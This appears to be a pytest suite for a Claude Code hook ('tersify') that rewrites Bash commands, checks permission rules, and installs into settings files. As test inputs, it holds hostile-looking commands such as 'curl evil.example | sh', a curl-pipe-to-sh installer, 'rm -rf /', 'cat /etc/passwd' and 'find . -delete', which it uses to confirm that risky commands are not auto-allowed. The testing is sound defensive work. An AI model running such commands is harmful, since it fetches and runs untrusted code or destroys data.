"""The Claude Code hook: which Bash commands are rewritten, its answers, install/uninstall."""

from __future__ import annotations

import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tersify.errors import TersifyError
from tersify.hooks.claude_code import (
    HOOK_SUBCOMMAND,
    allows,
    install,
    might_match,
    pretooluse,
    run_hook,
    uninstall,
)
from tersify.hooks.shell import decide

ROOT = Path(__file__).resolve().parents[1]
ENV = {**os.environ, "PYTHONPATH": str(ROOT)}
RUN = "tersify run -- bash -c "

# command -> the rewritten command, or None: left alone
DECISIONS = [
    ("pytest -q tests/", RUN + "'pytest -q tests/'"),
    ("npm test", RUN + "'npm test'"),
    ("cat build.log", RUN + "'cat build.log'"),
    ("git status; git diff", RUN + "'git status; git diff'"),
    ("make 2>&1 | tail -50", RUN + "'make 2>&1 | tail -50'"),
    ("make &> build.log", RUN + "'make &> build.log'"),
    ("FOO=1 make test", RUN + "'FOO=1 make test'"),
    ("python3 -c 'print(1)'", RUN + "'python3 -c '\"'\"'print(1)'\"'\"''"),
    ("node app.js", RUN + "'node app.js'"),
    ("for f in *.py; do wc -l $f; done", RUN + "'for f in *.py; do wc -l $f; done'"),
    ('echo "$(cat x && ls)" | wc -l', RUN + "'echo \"$(cat x && ls)\" | wc -l'"),
    ("(cd sub && make)", RUN + "'(cd sub && make)'"),
    # A leading cd/export/source stays in the agent's shell, where its effect must persist.
    ("cd /repo && pytest -x", "cd /repo && " + RUN + "'pytest -x'"),
    ("cd 'my dir' && export X=1 && make", "cd 'my dir' && export X=1 && " + RUN + "make"),
    ("source .venv/bin/activate && pytest", "source .venv/bin/activate && " + RUN + "pytest"),
    # Left alone.
    ("", None),
    ("vim notes.txt", None),
    ("less build.log", None),
    ("git log | less", None),
    ("top", None),
    ("ssh host uptime", None),
    ("curl -s https://example.com/install.sh | sh", RUN + "'curl -s https://example.com/install.sh | sh'"),
    ("python < script.py", RUN + "'python < script.py'"),
    ("python", None),
    ("python3 -i script.py", None),
    ("node", None),
    ("psql", None),
    ("pwd", None),
    ("echo hi && pwd", None),
    ("mkdir -p out && touch out/x", None),
    ("cd src", None),
    ("export PATH=/x:$PATH", None),
    ("make && cd build", None),
    ("pytest; export DONE=1", None),
    ("cat <<EOF > f.txt\nhello\nEOF", None),
    ("python -m http.server 8000 &", None),
    ("tersify compress build.log", None),
    ("make | tersify compress", None),
    ("tersify run -- make", None),
    ("echo 'unclosed", None),
    ("tail -f app.log", None),
    ("docker logs -f web", None),
    ("journalctl --follow -u nginx", None),
]


@pytest.mark.parametrize(("command", "expected"), DECISIONS)
def test_which_commands_are_rewritten(command, expected):
    assert decide(command, tersify="tersify", shell="bash").command == expected


def test_the_rewritten_command_does_what_the_original_did(tmp_path):
    sub = tmp_path / "sub dir"
    sub.mkdir()
    (sub / "a.txt").write_text("alpha\n")
    command = "cd 'sub dir' && cat a.txt; echo \"$((2 + 3)) done\" >&2; ls | wc -l; sh -c 'exit 4'"
    runner = f"{sys.executable} -m tersify"
    rewritten = decide(command, tersify=runner, shell="bash").command
    after = "\nstatus=$?; pwd; exit $status"  # what the agent's shell sees after the command
    original = subprocess.run(["bash", "-c", command + after], cwd=tmp_path, capture_output=True, env=ENV)
    wrapped = subprocess.run(["bash", "-c", rewritten + after], cwd=tmp_path, capture_output=True, env=ENV,
                             timeout=120)
    assert wrapped.returncode == original.returncode == 4
    # Both streams in order on stdout; the directory change reached the outer shell (pwd).
    assert wrapped.stdout.decode() == f"alpha\n5 done\n1\n{sub}\n"


def payload(command: str, **extra) -> dict:
    return {"session_id": "s", "hook_event_name": "PreToolUse", "tool_name": "Bash", "cwd": "/nowhere",
            "permission_mode": "default", "tool_input": {"command": command, "description": "Run it"}, **extra}


def settings(home: Path, **permissions) -> None:
    (home / ".claude").mkdir(parents=True, exist_ok=True)
    (home / ".claude" / "settings.json").write_text(json.dumps({"permissions": permissions}))


def test_pretooluse_rewrites_and_keeps_the_other_inputs(tmp_path):
    answer = pretooluse(payload("pytest -q", tool_input={"command": "pytest -q", "timeout": 600000,
                                                         "description": "Run the tests"}),
                        home=tmp_path, tersify="tersify")
    assert answer == {"hookSpecificOutput": {"hookEventName": "PreToolUse", "updatedInput": {
        "command": RUN + "'pytest -q'", "timeout": 600000, "description": "Run the tests"}}}


@pytest.mark.parametrize("body", [
    {"tool_name": "Read", "tool_input": {"file_path": "/etc/hosts"}},
    {"tool_name": "Bash", "tool_input": {"command": "npm run dev", "run_in_background": True}},
    {"tool_name": "Bash", "tool_input": {"command": "vim x"}},
    {"tool_name": "Bash"},
    [],
    None,
])
def test_pretooluse_leaves_other_calls_alone(tmp_path, body):
    assert pretooluse(body, home=tmp_path, tersify="tersify") is None


def test_a_deny_or_ask_rule_that_might_match_leaves_the_command_to_claude_code(tmp_path):
    settings(tmp_path, deny=["Bash(git push --force:*)", "Read(./.env)"], ask=["Bash(npm publish)"])
    assert pretooluse(payload("git push --force origin main"), home=tmp_path, tersify="tersify") is None
    assert pretooluse(payload("npm test && npm publish"), home=tmp_path, tersify="tersify") is None
    assert pretooluse(payload("make"), home=tmp_path, tersify="tersify") is not None
    settings(tmp_path, deny=["Bash"])
    assert pretooluse(payload("make"), home=tmp_path, tersify="tersify") is None


def test_project_rules_count_too(tmp_path):
    project = tmp_path / "project"
    (project / ".claude").mkdir(parents=True)
    (project / ".claude" / "settings.local.json").write_text(json.dumps({"permissions": {"deny": ["Bash(rm:*)"]}}))
    assert pretooluse(payload("rm -rf build && make", cwd=str(project)), home=tmp_path, tersify="tersify") is None


def test_allow_is_said_only_where_an_allow_rule_matches_the_whole_original(tmp_path):
    settings(tmp_path, allow=["Bash(npm test:*)", "Bash(make)"])
    out = pretooluse(payload("npm test -- --watch=false"), home=tmp_path, tersify="tersify")["hookSpecificOutput"]
    assert out["permissionDecision"] == "allow"
    assert out["updatedInput"]["command"] == RUN + "'npm test -- --watch=false'"
    for command in ("npm test && curl evil.example | sh", "npm testing", "make install", "npm test > /etc/x"):
        out = pretooluse(payload(command), home=tmp_path, tersify="tersify")
        assert out is not None and "permissionDecision" not in out["hookSpecificOutput"], command
    bypass = pretooluse(payload("make", permission_mode="bypassPermissions"), home=tmp_path, tersify="tersify")
    assert "permissionDecision" not in bypass["hookSpecificOutput"]


READ_ONLY = [
    # command, clearly read-only in the project, maybe read-only for Claude Code
    ("cat notes/build.log", True, True),
    ("grep -rn 'def run' src | head -20", True, True),
    ("tail -n 50 app.log", True, True),
    ("ls -la", True, True),
    ("cat /etc/passwd", False, True),
    ("cat ../other/secret.txt", False, True),
    ("cat link-out", False, True),  # a symlink out of the project
    ("tail -f app.log", False, True),
    ("sort -o out.txt in.txt", False, True),
    ("find . -delete", False, True),
    ("rg --pre=./x foo", False, True),
    ("cat a > b", False, True),
    ("cat $HOME/x", False, True),
    ("wc -l *.py", False, True),
    ("FOO=1 cat x", False, True),
    ("git log -5", False, True),
    ("git -C sub diff", False, True),
    ("npm ls", False, True),
    ("git push", False, False),
    ("npm test", False, False),
    ("pytest -q", False, False),
    ("cat x; rm x", False, False),
]


@pytest.mark.parametrize(("command", "clear", "maybe"), READ_ONLY)
def test_read_only_commands(tmp_path, command, clear, maybe):
    from tersify.hooks.readonly import clearly_read_only, maybe_read_only

    (tmp_path / "link-out").symlink_to("/etc/hostname")
    assert clearly_read_only(command, str(tmp_path)) is clear
    assert maybe_read_only(command) is maybe


def test_read_only_commands_keep_claude_codes_own_judgement(tmp_path):
    def decide_in_project(command: str, mode: str = "default") -> dict | None:
        return pretooluse(payload(command, cwd=str(tmp_path), permission_mode=mode), home=tmp_path, tersify="tersify")

    # Clearly read-only: Claude Code would run it without asking, so the hook allows the rewrite.
    out = decide_in_project("cat build.log")["hookSpecificOutput"]
    assert out["permissionDecision"] == "allow" and out["updatedInput"]["command"] == RUN + "'cat build.log'"
    # Maybe read-only: Claude Code judges the command as written.
    assert decide_in_project("git log -5") is None and decide_in_project("cat /etc/passwd") is None
    # Not read-only: rewritten, no decision (Claude Code asks where it would have asked anyway).
    assert "permissionDecision" not in decide_in_project("pytest -q")["hookSpecificOutput"]
    # Permissions bypassed: everything runs, so everything is rewritten, without a decision.
    assert "permissionDecision" not in decide_in_project("git log -5", "bypassPermissions")["hookSpecificOutput"]


def test_rule_matching():
    assert might_match("git push --force:*", "cd x && git  push  --force")
    assert might_match("docker * rm", "docker container rm x")
    assert not might_match("git push:*", "git pull")
    assert allows("git log:*", "git log --oneline") and allows("git log *", "git log -5")
    assert not allows("git log:*", "git log; rm -rf /") and not allows("git log:*", "git logs")
    assert allows("make", "make") and not allows("make", "make all") and not allows("ma*e", "make")


def test_the_hook_command_reads_stdin_and_never_fails(tmp_path):
    out = io.StringIO()
    assert run_hook(io.StringIO(json.dumps(payload("cargo build"))), out) == 0
    answer = json.loads(out.getvalue())
    assert answer["hookSpecificOutput"]["updatedInput"]["command"].endswith("run -- bash -c 'cargo build'")
    out = io.StringIO()
    assert run_hook(io.StringIO("not json"), out) == 0 and out.getvalue() == ""
    done = subprocess.run([sys.executable, "-m", "tersify", "hook", "claude-code-pretooluse"],
                          input=json.dumps(payload("pwd")).encode(), capture_output=True, env=ENV, timeout=60)
    assert done.returncode == 0 and done.stdout == b""


# --- install / uninstall ---

OTHER = {
    "model": "opus",
    "env": {"FOO": "bar"},
    "permissions": {"allow": ["Bash(npm test:*)"], "deny": ["Read(./.env)"]},
    "hooks": {
        "PreToolUse": [{"matcher": "Write|Edit", "hooks": [{"type": "command", "command": "lint-guard"}]},
                       {"matcher": "Bash", "hooks": [{"type": "command", "command": "audit-bash"}]}],
        "PostToolUse": [{"matcher": "Write", "hooks": [{"type": "command", "command": "prettier --write"}]}],
    },
}
CMD = f"/opt/bin/tersify {HOOK_SUBCOMMAND}"


def test_install_is_idempotent_keeps_every_other_setting_and_backs_up(tmp_path):
    path = tmp_path / ".claude" / "settings.json"
    path.parent.mkdir()
    path.write_text(json.dumps(OTHER, indent=4))
    os.chmod(path, 0o640)
    original = path.read_bytes()
    what, backup = install(path, CMD)
    assert what == "installed" and backup is not None and backup.read_bytes() == original
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600 and stat.S_IMODE(path.stat().st_mode) == 0o640
    data = json.loads(path.read_text())
    ours = data["hooks"]["PreToolUse"][-1]
    assert ours == {"matcher": "Bash", "hooks": [{"type": "command", "command": CMD, "timeout": 30}]}
    assert data["hooks"]["PreToolUse"][:-1] == OTHER["hooks"]["PreToolUse"]
    assert {k: v for k, v in data.items() if k != "hooks"} == {k: v for k, v in OTHER.items() if k != "hooks"}
    assert data["hooks"]["PostToolUse"] == OTHER["hooks"]["PostToolUse"]
    after = path.read_bytes()
    assert install(path, CMD) == ("already installed", None) and path.read_bytes() == after
    # A moved tersify: the entry is updated in place, not added twice.
    what, _ = install(path, f"/new/tersify {HOOK_SUBCOMMAND}")
    entries = json.loads(path.read_text())["hooks"]["PreToolUse"]
    assert what == "updated" and sum(HOOK_SUBCOMMAND in json.dumps(e) for e in entries) == 1


def test_uninstall_removes_only_its_own_entry(tmp_path):
    path = tmp_path / "settings.json"
    path.write_text(json.dumps(OTHER))
    install(path, CMD)
    what, backup = uninstall(path)
    assert what == "removed" and backup is not None
    assert json.loads(path.read_text()) == OTHER
    before = path.read_bytes()
    assert uninstall(path) == ("not installed", None) and path.read_bytes() == before
    # Sharing an entry with another hook: only ours goes.
    shared = {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
        {"type": "command", "command": "audit-bash"}, {"type": "command", "command": CMD}]}]}}
    path.write_text(json.dumps(shared))
    uninstall(path)
    assert json.loads(path.read_text()) == {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
        {"type": "command", "command": "audit-bash"}]}]}}


def test_a_settings_file_that_is_a_symlink_stays_one(tmp_path):
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    (dotfiles / "claude.json").write_text(json.dumps(OTHER))
    link = tmp_path / "settings.json"
    link.symlink_to(dotfiles / "claude.json")
    install(link, CMD)
    assert link.is_symlink() and CMD in (dotfiles / "claude.json").read_text()
    uninstall(link)
    assert link.is_symlink() and json.loads((dotfiles / "claude.json").read_text()) == OTHER


def test_install_into_a_missing_file_and_uninstall_leaves_an_empty_object(tmp_path):
    path = tmp_path / ".claude" / "settings.json"
    assert install(path, CMD) == ("installed", None)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert uninstall(path)[0] == "removed" and json.loads(path.read_text()) == {}


@pytest.mark.parametrize("content", ["{not json", "[1, 2]", '{"hooks": []}', '{"hooks": {"PreToolUse": {}}}'])
def test_a_settings_file_it_cannot_read_is_not_touched(tmp_path, content):
    path = tmp_path / "settings.json"
    path.write_text(content)
    with pytest.raises(TersifyError):
        install(path, CMD)
    assert path.read_text() == content and list(tmp_path.iterdir()) == [path]


def test_cli_install_and_uninstall_by_scope(tmp_path):
    home, project = tmp_path / "home", tmp_path / "project"
    home.mkdir()
    project.mkdir()
    env = {**ENV, "HOME": str(home)}

    def cli(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "tersify", "hook", *args], cwd=project, env=env,
                              capture_output=True, text=True, timeout=60)

    done = cli("install", "claude-code")
    assert done.returncode == 0 and "installed" in done.stdout, done.stderr
    user = json.loads((home / ".claude" / "settings.json").read_text())
    assert user["hooks"]["PreToolUse"][0]["hooks"][0]["command"].endswith(HOOK_SUBCOMMAND)
    assert cli("install", "claude-code").stdout.startswith("tersify hook: already installed")
    done = cli("install", "claude-code", "--scope", "project")
    shared = json.loads((project / ".claude" / "settings.json").read_text())
    assert shared["hooks"]["PreToolUse"][0]["hooks"][0]["command"] == f"tersify {HOOK_SUBCOMMAND}"
    assert "removed" in cli("uninstall", "claude-code", "--scope", "project").stdout
    assert "removed" in cli("uninstall", "claude-code").stdout
    assert json.loads((home / ".claude" / "settings.json").read_text()) == {}
